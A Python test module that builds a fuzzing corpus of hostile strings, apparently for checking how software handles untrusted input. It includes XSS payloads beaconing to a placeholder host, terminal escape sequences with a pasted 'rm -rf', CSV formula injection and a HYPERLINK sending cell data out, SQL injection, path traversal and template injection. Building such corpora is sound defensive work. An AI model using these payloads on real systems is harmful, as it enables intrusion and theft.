"""A thousand hostile strings: markup, scripts, escape codes, marks of direction, formulas, half characters.

Those that run set the title of the page to "pwned", open a dialog, or ask an address that nobody has (203.0.113.7).
"""

# ruff: noqa: E501

from __future__ import annotations

from random import Random

ADDRESS = "203.0.113.7"
RUN = (
    "document.title='pwned'",
    "alert(1)",
    f"fetch('http://{ADDRESS}/f')",
    f"new Image().src='//{ADDRESS}/i'",
    f"location='http://{ADDRESS}/'",
    f"import('//{ADDRESS}/m.js')",
    f"window.open('//{ADDRESS}/')",
    "document.body.innerHTML='pwned';document.title='pwned'",
)
AROUND = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">",
    "<svg><script>{}</script></svg>", "<body onload=\"{}\">", "<details open ontoggle=\"{}\">", "\"><script>{}</script>",
    "'><img src=x onerror={}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "<!--><script>{}</script>", "]]><script>{}</script>", "<a href=\"javascript:{}\">a</a>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<math><mtext><img src=x onerror=\"{}\">", "javascript:{}",
    "<input autofocus onfocus=\"{}\">", "<video><source onerror=\"{}\">", "<marquee onstart=\"{}\">", "`${{{}}}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "<ScRiPt >{}</sCrIpT>",
    "\" onmouseover=\"{}\" x=\"", "' style='animation-name:x' onanimationstart='{}", "<template><script>{}</script></template>",
)  # fmt: skip
LEAVES = (
    "<img src=//{0}/a.png>", "<link rel=stylesheet href=//{0}/a.css>", "<style>@import '//{0}/b.css';</style>",
    "<div style=\"background:url(//{0}/c)\">", "<iframe src=http://{0}/></iframe>", "<object data=//{0}/o></object>",
    "<meta http-equiv=refresh content=\"0;url=http://{0}/\">", "<base href=//{0}/>", "<form action=//{0}/><input></form>",
    "<link rel=prefetch href=//{0}/p>", "<link rel=dns-prefetch href=//{0}>", "<audio src=//{0}/a autoplay>",
    "![x](http://{0}/m.png)", "[click](javascript:alert(1))", "<embed src=//{0}/e>", "<image href=//{0}/svg>",
    "{{{{constructor.constructor('fetch(\"//{0}\")')()}}}}", "<script src=//{0}/s.js></script>",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b[31m", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1b[?1049h",
    "\x1b]8;;http://{0}/\x1b\\link\x1b]8;;\x1b\\", "\x9b2J", "\x9d0;pwned\x9c", "\x90q\x9c", "\x07\x08\x08\x08", "\r over",
    "\x1bc", "\x0e\x0f", "\x7f\x7f", "\x1b[3;5Hhere", "\x85\x84", "\x1b_G\x1b\\", "\x1b[200~rm -rf\x1b[201~",
)  # fmt: skip
DIRECTION = (
    "\u202egnp.exe", "\u2066x\u2069", "\u2067\u202bab\u202c", "\u200e\u200f", "\u061c", "\u200b\u200c\u200d\ufeff", "\u2028\u2029",
    "\ufff9\ufffa\ufffb", "\U000e0041\U000e0042", "a\u0300" * 40, "\u202d\u202d\u202d", "ﷺ" * 20, "😀\u200d👩\u200d👧", "𝔘𝔫𝔦", "٣",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "\n=1+1", "＝1+1", "−1+1",
    "=HYPERLINK(\"http://{0}/?\"&A1)", "=IMPORTXML(\"http://{0}\",\"//a\")", "=WEBSERVICE(\"http://{0}\")", "\ufeff=1+1", "%0A=1",
)  # fmt: skip
OTHER = (
    "\x00", "a\x00b", "\ud800", "a\udfffb", "\\input{/etc/passwd}", "\\immediate\\write18{id}", "$\\def\\x{\\x}\\x$", "%s%n%x", "{0.__class__}",
    "{answer of x}", "[red]x[/red]", "[link=http://{0}/]x[/link]", "[/]", "[bold", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}",
    "' OR 1=1 --", "'); DROP TABLE answers; --", "../../etc/passwd", "/dev/zero", "C:\\x", "con", "NaN", "null", "undefined", "-0",
    "__proto__", "constructor", "toString", "\\", "\\\\", "\"", "'", "`", "|", "a|b|c", "# heading", "- item", "> quote", "```\nx",
    "<", "&", "&amp;", "&#x3c;script&#x3e;", "\n\n\n", "\t", " ", "a\nb\r\nc", "---\ntitle: x\n---", "<!DOCTYPE html>", "<?php x ?>",
)  # fmt: skip


def hostile_strings(count: int, seed: int = 1) -> list[str]:
    """So many, each with a number of its own, in a fixed order."""
    found = [around.format(run) for around in AROUND for run in RUN]
    found += [text.replace("{0}", ADDRESS) for text in (*LEAVES, *TERMINAL, *DIRECTION, *FORMULAS, *OTHER)]
    draw = Random(seed)
    pieces = list(found)
    while len(found) < count:  # two or three of them in one, some of them long
        joined = draw.choice(["", " ", "\n", "'\"", "</"]).join(draw.sample(pieces, draw.choice([2, 2, 3])))
        found.append(joined * draw.choice([1, 1, 1, 1, 1, 1, 1, 40]))
    found += ["x" * 100_000, "<b>" * 30_000, "\u202e" * 20_000, "a " * 50_000]
    draw.shuffle(found)
    first = [*LEAVES[:1], *TERMINAL[:2], *DIRECTION[:1], *FORMULAS[:2]] if count < 100 else []
    return [text.replace("{0}", ADDRESS) for text in (*first, *found)][:count]
